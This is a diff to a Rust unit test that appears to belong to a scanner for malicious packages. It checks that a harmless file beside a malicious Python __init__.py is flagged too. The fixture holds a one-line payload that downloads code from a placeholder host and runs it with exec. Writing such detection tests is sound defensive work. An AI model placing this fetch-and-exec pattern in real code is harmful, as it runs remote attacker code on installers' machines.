@@ -247,7 +247,7 @@ mod tests {
     fn what_stands_beside_a_malicious_file_of_a_package_falls_with_it() {
         let source = |path: &str, text: &str| Source { path: path.to_owned(), language: Language::Python, text: text.to_owned() };
         let files = [
-            source("a/__init__.py", "import requests as r\nexec(r.get('https://cdn.example/x').text)\n"),
+            source("a/__init__.py", "import requests\nexec(requests.get('https://cdn.example/x').text)\n"),
             source("a/colours.py", "def paint(text, colour):\n    return colour + text\n"),
         ];
         let rules = RuleSet::embedded().expect("rules load");
